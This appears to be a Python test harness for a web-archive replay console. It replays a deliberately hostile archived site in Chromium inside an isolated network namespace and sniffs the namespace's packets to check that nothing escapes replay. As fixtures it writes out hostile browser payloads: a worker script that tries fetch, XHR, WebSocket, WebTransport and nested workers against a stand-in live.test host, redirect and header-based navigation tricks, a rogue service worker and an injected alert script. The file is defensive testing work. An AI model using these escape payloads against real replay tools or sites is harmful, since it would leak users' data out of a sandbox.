"""A hostile site, replayed in a real Chromium beside a real console, in a network of its own.

Run as a module within a network namespace. It prints JSON: for each attack what the network saw,
and what the browser did. Every packet of the namespace is looked at, so that nothing is missed:
names below `live.test` have an address of this namespace, and names below `leak.test` are looked up
at the name server of the system, whose address is in this namespace, too.
"""

import json
import re
import socket
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

from playwright.sync_api import BrowserContext, Dialog, Error, Frame, Page, sync_playwright

from nacre.catalogue.holdings import label_of
from tests.console.stories.chromium import chromium
from tests.console.stories.running import console_of
from tests.netns import bring_up
from tests.replay_server.site import FIRST, new_archive, reply
from tools.nginx import free_port

LIVE: Final = "203.0.113.9"
"""Address of all names below `live.test`."""
PAGES: Final = "http://h.test"
_SETTLE: Final = 400
"""Milliseconds after an attack in which its requests would be seen."""

ATTACKS: Final = dict(
    line.split("\t", 1)
    for line in Path(__file__).with_name("attacks.txt").read_text("utf-8").splitlines()
)
"""Scripts by name: {live} and {leak} are hosts of their own, {console} and {replay} ports."""
CRASH: Final = "rtc"
"""An attack at which Chromium ends the process of the page, as its allow-list forbids WebRTC."""
ALONE: Final = (
    "top", "parent", "top-link", "blank-link", "top-form", "frame", "frame-form", "console-frame",
    "other-job-frame",
)  # fmt: skip
"""Attacks with a page of their own: they may lead the frame away."""
EVIL_WORKER: Final = b"""
const quiet = (task) => { try { const done = task(); done?.catch?.(() => {}) } catch {} };
const live = "worker-file.live.test";
quiet(() => fetch(`http://${live}/`, {mode: "no-cors"}));
quiet(() => { const x = new XMLHttpRequest(); x.open("POST", `http://${live}/`); x.send("a") });
quiet(() => importScripts(`http://${live}/a.js`));
quiet(() => import(`http://${live}/a.js`));
quiet(() => new WebSocket(`ws://${live}/`));
quiet(() => new EventSource(`http://${live}/`));
quiet(() => new WebTransport(`https://${live}/`).ready);
quiet(() => new Worker(`http://${live}/a.js`));
const nested = `fetch("http://${live}/b").catch(() => 0)`;
quiet(() => new Worker(URL.createObjectURL(new Blob([nested]))));
quiet(() => new FontFace("x", `url(http://${live}/a.woff2)`).load());
"""
"""A script of a worker, also of one that pages share."""
NAVIGATIONS: Final[dict[str, bytes]] = {
    "location": reply(b"<script>location = 'http://location.live.test/'</script>"),
    "location-replace": reply(b"<script>location.replace('http://location-replace.live.test/')</script>"),
    "meta-refresh": reply(b"<meta http-equiv=refresh content='0;url=http://meta-refresh.live.test/'>"),
    "late-refresh": reply(
        b"<script>document.write('<meta http-equiv=refresh content=\"0;url=http://late-refresh.live.test/\">')</script>"
    ),
    "refresh-header": reply(b"x", "text/html", "200 OK", "Refresh: 0; url=http://refresh-header.live.test/"),
    "redirect": reply(b"", "text/html", "302 Found", "Location: http://redirect.live.test/"),
    "self-form": reply(
        b"<form method=post action=http://self-form.live.test/><input name=a></form>"
        b"<script>document.forms[0].submit()</script>"
    ),
    "console-location": reply(b"<script>location = 'http://localhost:%(console)d/'</script>"),
    "viewer-location": reply(b"<script>location = 'http://replay.localhost:%(replay)d/'</script>"),
    "without-worker": reply(
        b"<script>navigator.serviceWorker.getRegistrations()"
        b".then(all => Promise.all(all.map(r => r.unregister()))).then(() => location = '/%(stamp)smp_/http://without-worker.live.test/')</script>"
    ),
    "link-header": reply(
        b"x", "text/html", "200 OK", "Link: <http://link-header.live.test/>; rel=preconnect",
        "Link: <http://link-header.live.test/a.js>; rel=preload; as=script",
        'Speculation-Rules: "http://link-header.live.test/rules.json"',
        'Report-To: {"group":"a","max_age":99,"endpoints":[{"url":"http://link-header.live.test/"}]}',
        'NEL: {"report_to":"a","max_age":99}', "Alt-Svc: h2=\"link-header.live.test:443\"",
    ),
    "svg-page": reply(
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>new Image().src='http://svg-page.live.test/'"
        b"</script><image href='http://svg-page.live.test/a.png'/></svg>", "image/svg+xml",
    ),
    "xml-page": reply(
        b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://xml-page.live.test/a.xsl'?><a/>",
        "text/xml",
    ),
}  # fmt: skip
"""Pages that lead away by themselves, and replies whose fields govern a browser."""

_PAGE: Final = """<!doctype html>
<title>&lt;script&gt;alert(1)&lt;/script&gt;<script>alert('title')</script></title>
<h1>Hostile</h1><script>
// What the shim changed is taken from a fresh frame.
const blank = document.createElement('iframe'); document.documentElement.append(blank);
const bare = blank.contentWindow;
const reports = window.reports = [];
const report = text => reports.push(String(text).slice(0, 200));
const add = (name, fields) => {
  const made = document.createElement(name);
  const set = bare.Element.prototype.setAttribute;
  for (const [key, value] of Object.entries(fields)) set.call(made, key, value);
  document.documentElement.append(made);
  return made;
};
const attacks = {
%s
};
window.names = Object.keys(attacks);
for (const [name, attack] of Object.entries(attacks)) { try { attack() } catch (error) {} }
window.attacked = true;
</script>"""


class Sniffer:
    """All packets of the loopback interface of a network namespace."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, int, bytes]] = []
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
        self._socket.bind(("lo", 0))
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            data, place = self._socket.recvfrom(65_535)
            if place[2] == 4:  # outgoing; the same packet comes in again
                continue
            self._note(data[14:])

    def _note(self, packet: bytes) -> None:
        version = packet[0] >> 4
        if version == 4:
            size, protocol = (packet[0] & 15) * 4, packet[9]
            address = socket.inet_ntoa(packet[16:20])
        else:
            size, protocol = 40, packet[6]
            address = socket.inet_ntop(socket.AF_INET6, packet[24:40])
        segment = packet[size:]
        if (protocol == 6 and not segment[13] & 2) or (protocol == 6 and segment[13] & 16):
            return  # no SYN of a client
        if protocol in (6, 17):
            port = int.from_bytes(segment[2:4])
            self.seen.append(("tcp" if protocol == 6 else "udp", address, port, segment))

    def take(self) -> list[tuple[str, str, int, bytes]]:
        """What was seen since the last call."""
        seen, self.seen = self.seen, []
        return seen


def fill(text: str, name: str, facts: dict[str, Any]) -> str:
    """An attack with its own hosts."""
    text = text.replace("{live}", f"{name}.live.test").replace("{leak}", f"{name}.leak.test")
    for key, value in facts.items():
        text = text.replace("{" + key + "}", str(value))
    return text


class Hostile:
    """The site, its console and its browser."""

    def __init__(self, folder: Path) -> None:
        crawls = folder / "crawls"
        crawls.mkdir()
        self.replay = free_port()
        self.console = free_port()
        other = new_archive(
            crawls / "other", {"http://secret.test/": reply(b"<title>Secret</title>secret")}
        )
        self.facts = {
            "console": self.console, "replay": self.replay, "stamp": FIRST, "pages": PAGES,
            "other": label_of(str(other.root.absolute())),
        }  # fmt: skip
        pages = {
            f"{PAGES}/": self.page(*(name for name in ATTACKS if name not in (*ALONE, CRASH))),
            **{f"{PAGES}/{name}": self.page(name) for name in (*ALONE, CRASH)},
            f"{PAGES}/calm": reply(b"<title>Calm</title><h1>Calm</h1>"),
            f"{PAGES}/evil-worker.js": reply(EVIL_WORKER, "text/javascript"),
            f"{PAGES}/evil-sw.js": reply(
                b"self.onfetch = e => e.respondWith(new Response('evil'))",
                "text/javascript", "200 OK", "Service-Worker-Allowed: /",
            ),
            **{f"{PAGES}/{name}": self.fill(block) for name, block in NAVIGATIONS.items()},
        }  # fmt: skip
        new_archive(crawls / "hostile", pages)

    def fill(self, block: bytes) -> bytes:
        """A reply with the ports and the time of this site."""
        for key, value in self.facts.items():
            for mark in (f"%({key})d", f"%({key})s"):
                block = block.replace(mark.encode(), str(value).encode())
        head, _, body = block.partition(b"\r\n\r\n")
        length = b"Content-Length: %d" % len(body)
        return re.sub(rb"Content-Length: \d+", length, head) + b"\r\n\r\n" + body

    def page(self, *names: str) -> bytes:
        """The reply with a page that makes some attacks."""
        lines = [
            f"{json.dumps(name)}: () => {{ {fill(ATTACKS[name], name, self.facts)} }}"
            for name in names
        ]
        script = ",\n".join(lines).replace("</", r"<\/")
        return reply((_PAGE % script).encode(), "text/html; charset=utf-8")


def wait_for_page(page: Page) -> Frame:
    """The frame of the archived page, when it has something."""
    for _ in range(2000):
        for each in page.frames[1:]:
            if each.parent_frame == page.main_frame and not each.url.endswith(("/-/boot", "blank")):
                return each
        page.wait_for_timeout(50)
    raise AssertionError([each.url for each in page.frames])


def leaks_of(seen: list[tuple[str, str, int, bytes]], replay: int) -> list[str]:
    """What went anywhere but to replay; of the name server, queries for names of the site."""
    found = []
    for protocol, address, port, segment in seen:
        if protocol == "tcp" and port == replay and address in ("127.0.0.1", "::1"):
            continue
        if port == 53:
            name = b".".join(re.findall(rb"[a-z0-9-]{2,}", segment[20:].lower())).decode()
            if "leak" in name or "live" in name:
                found.append(f"dns {name}")
        elif address == LIVE or address in ("127.0.0.1", "::1"):
            found.append(f"{protocol} {address}:{port}")
    return sorted(set(found))


class Watch:
    """What a browser and the network of the namespace do."""

    def __init__(self, replay: int) -> None:
        self.hosts: list[str] = []
        self.notes: dict[str, list[str]] = {
            "dialogs": [], "downloads": [], "windows": [], "errors": [],
        }  # fmt: skip
        self._replay = replay
        self._sniffer = Sniffer()
        listener = socket.create_server((LIVE, 80))
        threading.Thread(target=_serve, args=(listener, self.hosts), daemon=True).start()

    def begin(self) -> None:
        """Forget what was seen."""
        self._sniffer.take()
        self.hosts.clear()

    def seen(self) -> dict[str, Any]:
        """What went anywhere but to replay, and the hosts of its requests."""
        leaks = leaks_of(self._sniffer.take(), self._replay)
        return {"leaks": leaks, "hosts": sorted({*self.hosts} - {""})}

    def open(self, context: BrowserContext) -> Page:
        """A page whose dialogs, downloads, windows and errors are noted."""
        notes = self.notes
        page = context.new_page()
        context.on("page", lambda opened: notes["windows"].append(opened.url))
        page.on("dialog", self._dismiss)
        page.on("download", lambda download: notes["downloads"].append(download.url))
        page.on("pageerror", lambda error: notes["errors"].append(str(error)))
        return page

    def _dismiss(self, dialog: Dialog) -> None:
        self.notes["dialogs"].append(dialog.message)
        dialog.dismiss()


def attack(page: Page, watch: Watch, url: str, *, begun: str = "true") -> dict[str, Any]:
    """Open a page of the site, and wait until its attacks have begun and were seen."""
    watch.begin()
    before = len(page.context.pages)
    page.goto(url)
    wait_for_page(page).wait_for_function(begun)
    page.wait_for_timeout(_SETTLE)
    return {
        **watch.seen(), "url": page.url, "windows": len(page.context.pages) - before,
        "frames": [each.url for each in page.frames],
    }  # fmt: skip


_WORKERS: Final = """navigator.serviceWorker.getRegistrations().then(
  all => all.map(each => each.active && each.active.scriptURL))"""


def attack_together(page: Page, watch: Watch, url: str) -> dict[str, Any]:
    """Open the page with most of the attacks, and ask it and the viewer for results."""
    seen = attack(page, watch, url, begun="window.attacked === true")
    frame = wait_for_page(page)
    return {
        **seen,
        "ran": frame.evaluate("window.attacked === true && window.names"),
        "reports": frame.evaluate("window.reports"),
        "workers": frame.evaluate(_WORKERS),
        "title": page.title(),
        "scripts": page.evaluate("document.querySelectorAll('script').length"),
        "images": page.evaluate("document.querySelectorAll('img').length"),
    }


def attack_fatally(page: Page, watch: Watch, url: str) -> dict[str, Any]:
    """Open a page whose process the browser may end for its attack."""
    watch.begin()
    with suppress(Error):
        page.goto(url)
        page.wait_for_timeout(3 * _SETTLE)
    time.sleep(_SETTLE / 1000)
    return watch.seen()


def control(page: Page, watch: Watch) -> dict[str, Any]:
    """What a page outside of replay does is seen: so would the attacks be."""
    watch.begin()
    page.set_content("<img src=http://control.live.test/><img src=http://control.leak.test/>")
    page.wait_for_timeout(_SETTLE)
    return watch.seen()


def main(folder: Path) -> dict[str, Any]:
    """Attack, and return what happened."""
    settings = Path("/etc/resolv.conf").read_text()
    servers = re.findall(r"^nameserver\s+([\d.]+)", settings, re.MULTILINE)
    bring_up(["127.0.0.1", LIVE, *(each for each in servers if not each.startswith("127."))])
    site = Hostile(folder)
    watch = Watch(site.replay)
    options = ("--port", str(site.console), "--replay-port", str(site.replay))
    with console_of(folder, *options) as console, sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium(), chromium_sandbox=False,
            args=[f"--host-resolver-rules=MAP *.live.test {LIVE}", "--disable-dev-shm-usage"],
        )  # fmt: skip
        context = browser.new_context(accept_downloads=True)
        page = watch.open(context)
        page.goto(console.link)
        page.wait_for_selector("#main")
        page.goto(f"{console.url}j/crawls~hostile/replay?u={PAGES}/calm")
        wait_for_page(page)
        page.wait_for_timeout(_SETTLE)
        pages = page.url.removesuffix("calm")
        together = attack_together(page, watch, pages)
        alone = {name: attack(page, watch, pages + name) for name in (*NAVIGATIONS, *ALONE)}
        cookies = [(each["name"], each.get("httpOnly")) for each in context.cookies()]
        fatal = attack_fatally(context.new_page(), watch, pages + CRASH)
        return {
            "attacks": together, "fatal": fatal, "navigations": alone, "notes": watch.notes,
            "cookies": cookies,
            "control": control(context.new_page(), watch), "console": console.log,
        }  # fmt: skip


def _serve(listener: socket.socket, hosts: list[str]) -> None:
    while True:
        accepted, _ = listener.accept()
        threading.Thread(target=_answer, args=(accepted, hosts), daemon=True).start()


def _answer(accepted: socket.socket, hosts: list[str]) -> None:
    with accepted:
        accepted.settimeout(5)
        try:
            data = accepted.recv(65_535)
        except OSError:
            data = b""
        match = re.search(rb"(?i)host: *([^\r\n]+)", data)
        hosts.append(match[1].decode("latin-1") if match else data.hex())
        accepted.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


if __name__ == "__main__":
    sys.stdout.write(json.dumps(main(Path(sys.argv[1]))))
